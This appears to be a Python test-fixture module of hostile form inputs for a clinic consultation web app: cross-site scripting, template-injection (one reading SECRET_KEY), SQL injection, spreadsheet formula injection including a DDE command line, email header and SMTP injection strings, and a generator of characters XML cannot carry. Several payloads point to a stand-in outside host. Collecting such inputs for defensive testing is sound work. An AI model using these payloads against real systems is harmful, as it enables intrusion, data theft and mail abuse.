"""Texts that hostile people and office programs bring into forms."""

import sys
import unicodedata

SCRIPTS = [
    "<script>window.ran = alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<a href=javascript:alert(1)>call me</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<style>@import 'http://elsewhere.example/x.css'</style>",
    "<base href=http://elsewhere.example/>",
    "<form action=http://elsewhere.example/><button>Log in again</button></form>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "{% now 'Y' %}{{ clinic }}{{ settings.SECRET_KEY }}%(clinic)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
]
QUERIES = [
    "'; DROP TABLE consultations_consultationrequest; --",
    "1' OR '1'='1",
    '") UNION SELECT password FROM auth_user; --',
    "Robert'); DELETE FROM auth_user WHERE ('a'='a",
    "\\'; SELECT pg_sleep(30); --",
    "%_\\",
]
FORMULAS = [
    '=HYPERLINK("http://elsewhere.example","Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]
STORED_AS_TYPED = [*SCRIPTS, *QUERIES, *FORMULAS]

HEADERS = [
    "a\r\nBcc: victim@example.net",
    "a\nBcc: victim@example.net\n\nA body of my own",
    "a\rTo: victim@example.net",
    "a%0d%0aBcc: victim@example.net",
    "a\u2028Bcc: victim@example.net",
    "a\r\n.\r\nMAIL FROM:<me@example.net>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\n",
]


def is_forbidden(code):
    """Whether XML 1.0 or HTML cannot carry the character: a control, half of a surrogate pair, a noncharacter."""
    is_control = unicodedata.category(chr(code)) == "Cc" and chr(code) not in "\t\n\r"
    return is_control or 0xD800 <= code <= 0xDFFF or 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE


FORBIDDEN = [chr(code) for code in range(sys.maxunicode + 1) if is_forbidden(code)]
EVERY_FORBIDDEN = "".join(FORBIDDEN)
